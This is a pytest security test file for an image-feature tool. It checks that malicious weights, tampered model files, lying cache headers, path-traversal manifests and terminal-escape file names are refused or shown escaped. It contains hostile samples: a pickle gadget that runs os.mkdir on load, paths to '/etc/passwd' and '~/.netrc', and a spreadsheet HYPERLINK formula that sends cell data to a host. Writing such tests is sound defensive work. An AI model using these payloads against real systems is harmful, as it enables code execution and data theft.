"""Promised: a file made to do harm is refused or inert; nothing in it is run, and nothing wrong is served from it."""

import csv
import hashlib
import importlib
import io
import json
import os
import pickle
import struct
import tracemalloc
import unicodedata
from pathlib import Path
from types import SimpleNamespace

import h5py
import numpy as np
import pytest
import skops.io
import torch
from PIL import Image
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import make_pipeline

import commands
from cache_files import only_segment
from commands import NETWORK
from featx import CNNFeatureTransformer, CNNFineTuneClassifier, load_model, save_model
from featx.cache import CacheError, EmbeddingCache
from featx.datasets.load import load_dataset
from featx.display.tables import Table
from featx.display.terminal import printable
from featx.display.text_tables import render_text_table
from featx.exceptions import BackboneError, DatasetError, FeatxError, ModelFileError, WeightsError
from featx.extraction.extract import extract_embeddings
from featx.images.sources import as_sources
from featx.model_files.trusted_types import trusted_types
from featx.networks.resolve import resolve_backbone
from featx.networks.weights import file_weights
from specs import SPEC, rows

LAST, EARLY = ("features.12", "avg"), ("features.6", "max")
PICTURES = [np.random.default_rng(n).integers(0, 256, (32, 32, 3), dtype=np.uint8) for n in range(6)]
# What a name may order a terminal to do: a title, a cleared screen, colours, a reversed line, an overwritten one.
HOSTILE = ["\x1b]0;owned\x07", "\x1b[2J", "\x9b31m", "a\u202egnp", "bell\x07", "over\rwritten", "two\nlines", "\udcff"]


def featx(*arguments, code=0):
    """Run a command as on a terminal with colours."""
    return commands.featx(*arguments, code=code, color=True)


class Bomb:
    """Makes a folder when it is unpickled."""

    def __init__(self, target):
        self.target = str(target)

    def __reduce__(self):
        return os.mkdir, (self.target,)


@pytest.fixture
def marker(tmp_path):
    """A folder that exists when something was executed."""
    path = tmp_path / "executed"
    yield path
    assert not path.exists()


# Weights


def refused_weights(path):
    with pytest.raises(WeightsError) as caught:
        resolve_backbone("squeezenet1_1", weights=path, image_size=32).build()
    assert str(path) in caught.value.message
    assert caught.value.next_step
    return str(caught.value)


@pytest.mark.parametrize("name", ["net.safetensors", "net.pt", "net.PTH"])
def test_a_pickle_by_any_name_is_no_weights_and_does_not_run(tmp_path, marker, name):
    (tmp_path / name).write_bytes(pickle.dumps({"features.0.weight": Bomb(marker)}))
    refused_weights(tmp_path / name)


@pytest.mark.filterwarnings("ignore::DeprecationWarning", "ignore::FutureWarning")
def test_a_torchscript_archive_is_no_weights(tmp_path):
    class Doubling(torch.nn.Module):
        def forward(self, x):
            return x + x

    torch.jit.trace(Doubling(), torch.zeros(1)).save(str(tmp_path / "net.pt"))
    refused_weights(tmp_path / "net.pt")


def safetensors_claiming(size, header=b"{}"):
    return struct.pack("<Q", size) + header


def tensor_of(n_bytes):
    return json.dumps({"w": {"dtype": "F32", "shape": [n_bytes // 4], "data_offsets": [0, n_bytes]}}).encode()


@pytest.mark.parametrize(
    "content",
    [
        safetensors_claiming(1 << 40),
        safetensors_claiming((1 << 64) - 1),
        safetensors_claiming(len(tensor_of(1 << 40)), tensor_of(1 << 40)),
        safetensors_claiming(2, b"[]"),
        b"\0\0\0",
    ],
    ids=["header of 1 TB", "header of 16 EB", "tensor of 1 TB", "header that is a list", "no header"],
)
def test_a_safetensors_header_that_claims_more_than_there_is_is_refused(tmp_path, content):
    (tmp_path / "net.safetensors").write_bytes(content)
    assert "cannot read the weights" in refused_weights(tmp_path / "net.safetensors")


@pytest.mark.filterwarnings("ignore::UserWarning")
@pytest.mark.parametrize(
    "build",
    [
        lambda: {0: torch.zeros(1)},
        lambda: {"features.0.weight": torch.zeros(64, 3, 3, 3, device="meta")},
        lambda: {"features.0.weight": torch.zeros(64, 3, 3, 3).to_sparse()},
        lambda: {"features.0.weight": torch.nested.nested_tensor([torch.zeros(1), torch.zeros(2)])},
        lambda: {"features.0.weight": torch.quantize_per_tensor(torch.zeros(64, 3, 3, 3), 0.1, 0, torch.qint8)},
        lambda: {"features.0.weight": [1.0, 2.0]},
    ],
    ids=["numbered", "without values", "sparse", "nested", "quantised", "list"],
)
def test_a_state_of_tensors_that_no_network_has_is_refused(tmp_path, build):
    torch.save(build(), tmp_path / "net.pth")
    assert "net.pth" in refused_weights(tmp_path / "net.pth")


def test_weights_that_are_a_pipe_are_refused_without_waiting(tmp_path):
    os.mkfifo(tmp_path / "net.pth")
    with pytest.raises(WeightsError, match="not a regular file"):
        file_weights(tmp_path / "net.pth")


# Models


@pytest.fixture
def tampered(tiny, tmp_path):
    """Write a model file whose transformer, and whose specs, have been changed by another hand."""

    def write(model=None, spec=None, **state):
        path = tmp_path / "model.skops"
        if model is None:
            transformer = CNNFeatureTransformer(**tiny)
            model = make_pipeline(transformer, LogisticRegression()).fit(PICTURES, [0, 1] * 3)
        save_model(model, path)
        content = skops.io.load(path, trusted=trusted_types())
        part = content["model"] if isinstance(content["model"], CNNFineTuneClassifier) else content["model"][0]
        vars(part).update(state)
        meta = json.loads(content["featx"])
        for found in meta["specs"].values():
            found.update(spec or {})
        path.write_bytes(skops.io.dumps({**content, "featx": json.dumps(meta)}))
        return path

    return write


def test_a_model_does_not_choose_where_a_machine_writes_or_how_hard_it_works(tampered, tmp_path, own_cache):
    hostile = {"cache": str(tmp_path / "elsewhere"), "n_jobs": 10**6, "batch_size": 10**9, "device": "cuda:99"}
    model = load_model(tampered(**hostile))
    assert [model[0].get_params()[name] for name in hostile] == ["auto", None, "auto", "auto"]
    model.predict(PICTURES)
    assert not (tmp_path / "elsewhere").exists()
    assert own_cache.exists()


def test_a_tuned_model_does_not_choose_where_its_next_training_writes(tampered, tiny, tmp_path):
    path = tampered(CNNFineTuneClassifier(**tiny), checkpoint=str(tmp_path / "x.pt"), cache=str(tmp_path / "elsewhere"))
    loaded = load_model(path)
    assert (loaded.checkpoint, loaded.cache) == (None, "auto")


def test_a_model_that_names_a_malicious_pickle_as_its_weights_does_not_run_it(tampered, tmp_path, marker):
    evil = tmp_path / "evil.pth"
    torch.save({"features.0.weight": Bomb(marker)}, evil)
    digest = hashlib.sha256(evil.read_bytes()).hexdigest()
    model = load_model(tampered(weights=str(evil), spec={"weights_digest": digest}))
    with pytest.raises(WeightsError, match="refused"):
        model.predict(PICTURES)


@pytest.mark.parametrize("name", ["timm:hf-hub:someone/network", "timm:local-dir:/tmp", "hf-hub:someone/network"])
def test_a_model_that_names_a_network_of_a_stranger_fetches_nothing(tampered, name, monkeypatch):
    def connect(*args):
        raise AssertionError("a connection was opened")

    path = tampered(backbone=name)
    monkeypatch.setattr("socket.socket.connect", connect)
    with pytest.raises(BackboneError):
        load_model(path)


@pytest.mark.parametrize("value", [[1], {"a": 1}, -1, 2.5, "nonsense", "/dev/zero", "a\0.pth", b"b", True], ids=repr)
@pytest.mark.parametrize("name", ["backbone", "weights", "layer", "pooling", "precision", "image_size", "resize"])
def test_a_model_whose_parameters_make_no_sense_is_refused(tampered, name, value):
    with pytest.raises(FeatxError):
        load_model(tampered(**{name: value}))


@pytest.mark.parametrize("digest", [5, None, ["a"], {}])
def test_a_model_whose_digest_is_no_text_is_refused(tampered, digest):
    with pytest.raises(ModelFileError, match="not a featx model"):
        load_model(tampered(spec={"weights_digest": digest}))


# The cache


@pytest.fixture
def filled(tmp_path):
    cache = EmbeddingCache(tmp_path / "cache")
    cache.put(SPEC, *rows(range(5)))
    return cache


def with_header(path, change):
    """Change a segment's header and make its checksum fit; the other bytes have none, as in old segments."""
    data = bytearray(path.read_bytes())
    start = data.index(b'{"format"')
    header = json.loads(data[start:].split(b"\0", 1)[0])
    del header["rest"]
    text = change(header)
    text = text if isinstance(text, bytes) else json.dumps(text).encode()
    head = b"featx segment " + hashlib.sha256(text).hexdigest().encode() + b" %08d " % len(text) + text
    data[: len(head)] = head
    path.write_bytes(data)


def saying(**fields):
    return lambda header: header | fields


LIES = {
    "1 TB of rows": saying(shape=[1 << 35, 8]),
    "rows beyond any memory": saying(shape=[1 << 70, 8]),
    "rows of 1 TB": saying(shape=[5, 1 << 38]),
    "fewer rows": saying(shape=[4, 8]),
    "wider rows": saying(shape=[5, 9]),
    "narrower rows": saying(shape=[5, 7]),
    "rows of nothing": saying(shape=[5, 0]),
    "less than no rows": saying(shape=[-5, 8]),
    "less than no columns": saying(shape=[5, -8]),
    "rows in fractions": saying(shape=[5.0, 8.0]),
    "rows in words": saying(shape=["5", "8"]),
    "true rows": saying(shape=[True, True]),
    "three axes": saying(shape=[5, 4, 2]),
    "half the bytes": saying(dtype="<f2"),
    "objects": saying(dtype="|O"),
    "before the file": saying(embeddings=[-160, "0"]),
    "behind the file": saying(embeddings=[1 << 60, hashlib.sha256().hexdigest()]),
    "digests behind the file": saying(digests=[1 << 60, hashlib.sha256().hexdigest()]),
    "offsets in words": saying(digests=["0", "0"]),
    "no offsets": saying(digests=None),
    "no checksum": saying(embeddings=[2048, None]),
    "a list": lambda header: [header],
    "a number": lambda header: b"1",
    "no fields": lambda header: {},
    "no format": lambda header: {k: v for k, v in header.items() if k != "format"},
    "no shape": lambda header: {k: v for k, v in header.items() if k != "shape"},
    "no JSON": lambda header: b"{",
    "no text": lambda header: b"\xff\xfe",
    "a pit": lambda header: b"[" * 900,
}


@pytest.mark.parametrize("lie", LIES.values(), ids=LIES)
def test_a_segment_whose_header_lies_is_set_aside_before_anything_is_allocated(filled, lie):
    path = only_segment(filled)
    with_header(path, lie)
    cache = EmbeddingCache(filled.root)
    tracemalloc.start()
    try:
        assert [where for where, _ in cache.verify().problems] == [path]
        embeddings, found = cache.get(SPEC, rows(range(5))[0])
        assert tracemalloc.get_traced_memory()[1] < 10_000_000
    finally:
        tracemalloc.stop()
    assert not found.any()
    assert not embeddings.any()
    assert [name for name, _ in cache.damaged] == [path.name]
    assert path.with_suffix(".damaged").exists()
    cache.put(SPEC, *rows(range(5)))
    assert cache.get(SPEC, rows(range(5))[0])[1].all()


@pytest.mark.parametrize("make", [os.mkfifo, os.mkdir], ids=["pipe", "folder"])
def test_what_is_no_file_among_the_segments_is_set_aside_without_waiting(filled, make):
    path = only_segment(filled).with_name("0.h5")
    make(path)
    cache = EmbeddingCache(filled.root)
    assert cache.verify().problems == [(path, "not a regular file")]
    assert cache.get(SPEC, rows(range(5))[0])[1].all()
    assert path.with_suffix(".damaged").exists()
    assert cache.verify().clean


def test_links_and_other_data_inside_a_segment_are_never_looked_at(filled, tmp_path):
    os.mkfifo(tmp_path / "pipe.h5")  # who followed the link would wait for ever
    with h5py.File(only_segment(filled), "r+") as file:
        del file["embeddings"]
        file["embeddings"] = h5py.ExternalLink(str(tmp_path / "pipe.h5"), "embeddings")
    cache = EmbeddingCache(filled.root)
    digests, expected = rows(range(5))
    embeddings, found = cache.get(SPEC, digests)
    assert embeddings[found].tobytes() == expected[found].tobytes()
    assert cache.export(tmp_path / "all.h5") == found.sum()


def snapshot(root):
    return {path: path.read_bytes() if path.is_file() else None for path in sorted(root.rglob("*"))}


USES = {
    "get": lambda cache: cache.get(SPEC, rows(range(5))[0]),
    "contains": lambda cache: cache.contains(SPEC, rows(range(5))[0]),
    "put": lambda cache: cache.put(SPEC, *rows(range(9))),
    "width": lambda cache: cache.width(SPEC),
    "verify": EmbeddingCache.verify,
    "repair": EmbeddingCache.repair,
    "info": EmbeddingCache.info,
    "compact": EmbeddingCache.compact,
    "prune": lambda cache: cache.prune(max_bytes=0),
}


@pytest.mark.parametrize("use", USES)
def test_a_spec_folder_that_is_a_link_is_not_followed(tmp_path, use):
    """Else files of another place would be renamed, merged and removed."""
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "results.h5").write_bytes(b"precious")
    (elsewhere / "spec.json").write_text(SPEC.to_json())
    before = snapshot(elsewhere)
    link = tmp_path / "cache" / SPEC.digest
    link.parent.mkdir()
    link.symlink_to(elsewhere)
    cache = EmbeddingCache(link.parent)
    if use in ("get", "contains", "put", "width"):
        with pytest.raises(CacheError, match=r"is a link.*Put the folder"):
            USES[use](cache)
    else:
        USES[use](cache)
    assert snapshot(elsewhere) == before
    assert cache.verify().problems == [(link, "a link, which is not followed")]


def test_a_whole_cache_may_be_a_link(filled, tmp_path):
    (tmp_path / "link").symlink_to(filled.root)
    cache = EmbeddingCache(tmp_path / "link")
    assert cache.get(SPEC, rows(range(5))[0])[1].all()
    cache.put(SPEC, *rows(range(5, 9)))
    assert cache.verify().clean
    assert cache.prune(max_bytes=0)


@pytest.mark.parametrize("use", ["verify", "repair", "info", "compact", "prune"])
def test_folders_that_are_not_named_as_specs_are_left_alone(filled, use):
    for name in ("x" * 32, "results"):
        (filled.root / name).mkdir()
        (filled.root / name / "results.h5").write_bytes(b"precious")
    USES[use](EmbeddingCache(filled.root))
    assert all((filled.root / name / "results.h5").read_bytes() == b"precious" for name in ("x" * 32, "results"))


# Damage, seen from an extraction


@pytest.fixture
def extract(tiny, tmp_path):
    """Extract from two layers of the tiny network, each time with a cache that is opened anew."""
    source = resolve_backbone(**tiny)

    def call():
        cache = EmbeddingCache(tmp_path / "cache")
        return extract_embeddings(as_sources(PICTURES), source, views=[LAST, EARLY], cache=cache)

    call.folders = [tmp_path / "cache" / source.spec(view, "float32").digest for view in (LAST, EARLY)]
    return call


def assert_computed_again(extract, before, damaged):
    """The damaged segments are set aside, reported, and their rows are what they were."""
    again = extract()
    assert sorted(name for name, _ in again.damaged) == sorted(path.name for path in damaged)
    assert again.n_forwarded == len(PICTURES)
    for path in damaged:
        assert not path.exists()
        assert path.with_suffix(".damaged").exists()
    for got, expected in zip(again.embeddings, before.embeddings, strict=True):
        np.testing.assert_allclose(got, expected, atol=1e-4 * np.abs(expected).max(), rtol=0)
    assert extract().n_forwarded == 0


@pytest.mark.parametrize("lengths", [10, pytest.param(50, marks=pytest.mark.long)])
def test_a_segment_cut_at_any_length_is_computed_again_and_reported(extract, lengths):
    before = extract()
    for share in np.linspace(0, 1, lengths, endpoint=False):
        (path,) = extract.folders[0].glob("*.h5")
        os.truncate(path, int(share * path.stat().st_size))
        assert_computed_again(extract, before, [path])


@pytest.mark.parametrize("flips", [10, pytest.param(500, marks=pytest.mark.long)])
def test_a_byte_flipped_anywhere_in_a_segment_is_told_computed_again_and_reported(extract, flips):
    before, chance = extract(), np.random.default_rng(0)
    for _ in range(flips):
        (path,) = extract.folders[chance.integers(2)].glob("*.h5")
        data = bytearray(path.read_bytes())
        place = chance.integers(len(data))
        data[place] ^= chance.integers(1, 256)
        path.write_bytes(data)
        assert [where for where, _ in EmbeddingCache(path.parents[1]).verify().problems] == [path], place
        assert_computed_again(extract, before, [path])


def test_segments_that_changed_places_are_computed_again_and_reported(extract, tmp_path):
    before = extract()
    one, two = (next(folder.glob("*.h5")) for folder in extract.folders)
    one.rename(tmp_path / "aside")
    two.rename(one)
    (tmp_path / "aside").rename(two)
    assert_computed_again(extract, before, [one, two])


def test_a_foreign_file_in_place_of_a_segment_is_reported_and_computed_again(extract):
    before = extract()
    (path,) = extract.folders[0].glob("*.h5")
    with h5py.File(path, "w") as file:
        file["embeddings"] = np.zeros((6, 512), dtype=np.float32)
    assert_computed_again(extract, before, [path])


def test_a_foreign_file_beside_the_segments_is_reported_and_costs_nothing(extract):
    before = extract()
    with h5py.File(extract.folders[0] / "0.h5", "w") as file:
        file["embeddings"] = np.zeros((6, 512), dtype=np.float32)
    again = extract()
    assert [name for name, _ in again.damaged] == ["0.h5"]
    assert again.n_forwarded == 0
    assert all(map(np.array_equal, again.embeddings, before.embeddings))


@pytest.mark.parametrize("change", [Path.unlink, lambda path: path.write_text(SPEC.to_json())], ids=["gone", "other"])
def test_rows_do_not_depend_on_spec_json(extract, change):
    before = extract()
    change(extract.folders[0] / "spec.json")
    again = extract()
    assert (again.n_forwarded, again.damaged) == (0, [])
    assert all(map(np.array_equal, again.embeddings, before.embeddings))


# Manifests and names


@pytest.fixture
def folder(tmp_path):
    """One image each in two classes, and a secret beside them."""
    root = tmp_path / "data"
    for number, name in enumerate(("one", "two")):
        (root / name).mkdir(parents=True)
        Image.fromarray(PICTURES[number]).save(root / name / "0.png")
    (tmp_path / "secret").mkdir()
    (tmp_path / "secret" / "secret.txt").write_text("hunter2:x:0:0\n")
    return root


def test_what_a_manifest_names_is_read_as_an_image_and_nothing_of_it_is_told(folder, tmp_path):
    secret = tmp_path / "secret" / "secret.txt"
    names = ["one/0.png", secret, "../secret/secret.txt", f"file://{secret}", "/etc/passwd", "/dev/zero", "~/.netrc"]
    manifest = folder / "list.csv"
    manifest.write_text("path,label\n" + "".join(f"{name},x\n" for name in names))
    before = snapshot(secret.parent), snapshot(folder)
    options = ["-o", tmp_path / "out.h5", "--failures", tmp_path / "bad.json", "--on-error", "skip"]
    result = featx("extract", manifest, *options, *NETWORK)
    reasons = [failure["reason"] for failure in json.loads((tmp_path / "bad.json").read_text())]
    assert reasons[:4] == ["not an image in a known format"] * 4
    assert reasons[4:] == ["not a regular file", "No such file or directory"]
    told = [result.output.encode(), (tmp_path / "bad.json").read_bytes(), (tmp_path / "out.h5").read_bytes()]
    assert not any(word in text for word in (b"hunter2", b"root:") for text in told)
    assert (snapshot(secret.parent), snapshot(folder)) == before


@pytest.mark.parametrize(
    "url",
    [
        "reference://a.png::file:///elsewhere/references.json",
        "simplecache::reference://a.png::https://host/references.json",
        "generic://reference://a.png",
    ],
)
def test_a_manifest_does_not_reach_images_through_files_of_references(tmp_path, url, monkeypatch):
    """fsspec fills in the templates of such a file, in versions before 2026 without a sandbox."""
    monkeypatch.setattr("fsspec.open", None)
    (tmp_path / "list.csv").write_text(f"path,label\na.png,x\n{url},x\n")
    with pytest.raises(DatasetError, match="in line 3, a URL through a file of references"):
        load_dataset(tmp_path / "list.csv")


FORMULAS = ['=HYPERLINK("http://host/?"&A1,"x")', "=1+1", "+1", "-1", "@SUM(A1)", "'quoted", "a\x1b[31mb"]


def model_with(classes, tiny, path):
    pictures = [PICTURES[n % 6] for n in range(len(classes))]
    save_model(make_pipeline(CNNFeatureTransformer(**tiny), LogisticRegression()).fit(pictures, classes), path)
    return path


def test_formulas_in_a_manifest_are_text_and_go_into_csv_as_they_are(folder, tiny, tmp_path, monkeypatch):
    """A label is data: what a spreadsheet makes of it is the spreadsheet's part."""
    with open(folder / "list.csv", "w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([["path", "label"], *(["one/0.png", label] for label in FORMULAS)])
    labels = load_dataset(folder / "list.csv").labels.tolist()
    assert labels == FORMULAS
    model = model_with(labels, tiny, tmp_path / "m.skops")
    arguments = ("predict", model, folder / "one" / "0.png", "--top", 7, "--format", "csv", "-q")
    _, (_, *cells) = csv.reader(io.StringIO(featx(*arguments).stdout))
    assert sorted(cells[::2]) == sorted(FORMULAS)
    module = importlib.import_module("featx.cli.predict")
    monkeypatch.setattr(module, "sys", SimpleNamespace(stdout=SimpleNamespace(isatty=lambda: True)))
    assert "\x1b" not in featx(*arguments).stdout


def orders(text):
    """The characters that a terminal would obey."""
    return {c for c in text if c != "\n" and unicodedata.category(c) in ("Cc", "Cf", "Cs")}


@pytest.fixture
def hostile_folder(tmp_path):
    root = tmp_path / "hostile"
    for label, name in enumerate(HOSTILE[:3] + HOSTILE[-1:]):
        (root / name).mkdir(parents=True)
        for number in range(3):
            pixels = np.random.default_rng([label, number]).integers(0, 256, (8, 8, 3), dtype=np.uint8)
            Image.fromarray(pixels).save(root / name / f"{number}.png")
    return root


@pytest.mark.any_file_name
def test_classes_named_with_orders_to_a_terminal_are_printed_escaped(hostile_folder, tmp_path):
    model = tmp_path / "m.skops"
    shown = featx("fit", hostile_folder, "-o", model, *NETWORK, "--grid", "logistic.C=1", "--cv", 3).output
    assert not orders(shown)
    assert all(f"\n{printable(name)} " in shown for name in os.listdir(hostile_folder))
    for form in ("table", "json"):
        shown = featx("predict", model, hostile_folder, "--format", form)
        assert not orders(shown.output)
    assert not orders(featx("extract", hostile_folder, "-o", tmp_path / "o.h5", *NETWORK).output)
    found = featx("predict", model, hostile_folder, "--format", "csv", "-q").stdout_bytes
    assert {os.fsencode(row[0]) for row in csv.reader(io.StringIO(os.fsdecode(found)))} >= {
        os.fsencode(path) for path in hostile_folder.rglob("*.png")
    }


@pytest.mark.any_file_name
def test_errors_and_notes_about_files_named_with_orders_are_printed_escaped(hostile_folder, tmp_path):
    for name in HOSTILE:
        (hostile_folder / HOSTILE[0] / f"{name}.jpg").write_bytes(b"text")
        (hostile_folder / HOSTILE[0] / f"{name}.txt").write_bytes(b"text")
    command = ("extract", hostile_folder, "-o", tmp_path / "o.h5", *NETWORK)
    error = featx(*command, code=2)
    assert "cannot read image" in error.stderr
    skipped = featx(*command, "--on-error", "skip")
    assert skipped.stderr.count("\nskipped ") == len(HOSTILE)
    assert not orders(error.output + skipped.output)


def test_damaged_files_are_told_of_until_they_are_pruned(filled):
    data = bytearray(only_segment(filled).read_bytes())
    data[-1] ^= 1
    only_segment(filled).write_bytes(data)
    assert "damaged: " in featx("cache", "repair", "--cache", filled.root).output
    for name in ("info", "verify"):
        output = featx("cache", name, "--cache", filled.root).output
        assert "1 damaged file (" in output
        assert "which `featx cache prune` removes first" in output
    featx("cache", "prune", "--max-age", "0s", "--cache", filled.root)
    for name in ("info", "verify"):
        assert "damaged files" not in featx("cache", name, "--cache", filled.root).output


def test_damaged_files_named_with_orders_are_printed_escaped(filled):
    only_segment(filled).with_name("\x1b[2J.h5").write_bytes(b"text")
    shown = featx("cache", "verify", "--cache", filled.root, code=1).output
    assert "\\x1b[2J.h5" in shown
    assert not orders(shown)


@pytest.mark.parametrize("name", HOSTILE, ids=ascii)
def test_a_cell_of_a_table_is_one_line_without_orders(name):
    shown = render_text_table(Table(["name", name], [[name, "1"]]))
    assert len(shown.splitlines()) == 3
    assert not orders(shown)
    assert printable(printable(name)) == printable(name)


@pytest.mark.parametrize("label", ["a\0b", "\udcff"], ids=ascii)
def test_labels_that_hdf5_cannot_hold_are_written_with_replacements(folder, tmp_path, label):
    (folder / "list.csv").write_text("path,label\none/0.png,a\0b\ntwo/0.png,c\n")
    source = folder / "list.csv"
    if label == "\udcff":
        (folder / "list.csv").unlink()
        (folder / "one").rename(folder / label)
        source = folder
    featx("extract", source, "-o", tmp_path / "o.h5", *NETWORK)
    with h5py.File(tmp_path / "o.h5") as file:
        assert any("\ufffd" in name for name in file["classes"].asstr()[:])
        assert sorted(file["labels"][:].tolist()) == [0, 1]


def test_names_that_look_like_options_are_names(tiny, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    for name in ("--help", "-o"):
        (tmp_path / "data" / name).mkdir(parents=True)
        Image.fromarray(PICTURES[0]).save(tmp_path / "data" / name / "--version.png")
    Image.fromarray(PICTURES[0]).save("-q.png")
    Path("-list.csv").write_text("path,label\n-q.png,--top\n", encoding="utf-8")
    assert load_dataset("data").classes == ["--help", "-o"]
    model_with(["--help", "-o"], tiny, tmp_path / "m.skops")
    shown = featx("predict", "--format", "json", "m.skops", "--", "-q.png", "data", "-list.csv").stdout
    assert [entry["path"] for entry in json.loads(shown)] == [
        "-q.png", "data/--help/--version.png", "data/-o/--version.png", "./-q.png"
    ]  # fmt: skip
